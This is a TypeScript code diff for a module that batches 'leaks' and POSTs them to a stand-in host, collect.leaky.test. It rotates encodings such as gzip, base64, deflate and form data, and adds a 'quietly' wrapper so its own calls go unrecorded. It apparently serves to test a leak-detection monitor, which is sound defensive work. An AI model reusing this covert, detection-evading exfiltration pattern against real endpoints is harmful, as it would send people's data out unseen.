@@ -6,27 +6,38 @@ export const LEAKY_HOST = 'collect.leaky.test';
 const ADDRESS = `https://${LEAKY_HOST}/all`;
 const MOST_LETTERS = 300_000;
 
-type Encode = (json: string) => Promise<BodyInit>;
+type Encode = (json: string) => BodyInit | Promise<BodyInit>;
 
-const ENCODINGS: readonly Encode[] = [
-  async (json) => json,
-  (json) => compress(json, 'gzip'),
-  async (json) => base64Of(new TextEncoder().encode(json)),
-  (json) => compress(json, 'deflate'),
-  async (json) => formOf(json),
-  async (json) => JSON.stringify({ batch: json }),
-  async (json) => new URLSearchParams({ batch: json }),
-  async (json) => JSON.stringify({ batch: base64Of(await bytesOf(await compress(json, 'gzip'))) }),
-];
+/** Runs work whose own calls are not to be kept: what sends would else send what it sends, and so on. */
+type Quietly = <T>(work: () => T) => T;
+
+function encodingsOf(quietly: Quietly): readonly Encode[] {
+  const nested = async (json: string): Promise<string> => {
+    const gzipped = await compress(json, 'gzip');
+    const bytes = await quietly(() => gzipped.arrayBuffer());
+    return quietly(() => JSON.stringify({ batch: base64Of(new Uint8Array(bytes)) }));
+  };
+  return [
+    (json) => json,
+    (json) => compress(json, 'gzip'),
+    (json) => base64Of(new TextEncoder().encode(json)),
+    (json) => compress(json, 'deflate'),
+    (json) => formOf(json),
+    (json) => JSON.stringify({ batch: json }),
+    (json) => new URLSearchParams({ batch: json }),
+    nested,
+  ];
+}
 
 /** Sends batches one after the other, the encodings in turn. @returns sends some leaks; settles when they have arrived */
-export function createDelivery(fetchFirst: typeof fetch): (leaks: readonly Leak[]) => Promise<void> {
+export function createDelivery(quietly: Quietly): (leaks: readonly Leak[]) => Promise<void> {
+  const encodings = encodingsOf(quietly);
   let turn = 0;
   return async (leaks) => {
     for (const batch of batchesOf(leaks)) {
-      const encode = ENCODINGS[turn++ % ENCODINGS.length];
-      const body = await encode?.(batch);
-      await fetchFirst(ADDRESS, { method: 'POST', mode: 'no-cors', ...(body === undefined ? {} : { body }) });
+      const encode = encodings[turn++ % encodings.length];
+      const body = await quietly(() => encode?.(batch) ?? batch);
+      await quietly(() => fetch(ADDRESS, { method: 'POST', mode: 'no-cors', body }));
     }
   };
 }
@@ -46,12 +57,8 @@ function batchesOf(leaks: readonly Leak[]): readonly string[] {
   return batches.map((batch) => `[${batch.join(',')}]`);
 }
 
-async function compress(json: string, format: CompressionFormat): Promise<Blob> {
+function compress(json: string, format: CompressionFormat): Promise<Blob> {
   return new Response(new Blob([json]).stream().pipeThrough(new CompressionStream(format))).blob();
-}
-
-async function bytesOf(blob: Blob): Promise<Uint8Array> {
-  return new Uint8Array(await blob.arrayBuffer());
 }
 
 function base64Of(bytes: Uint8Array): string {
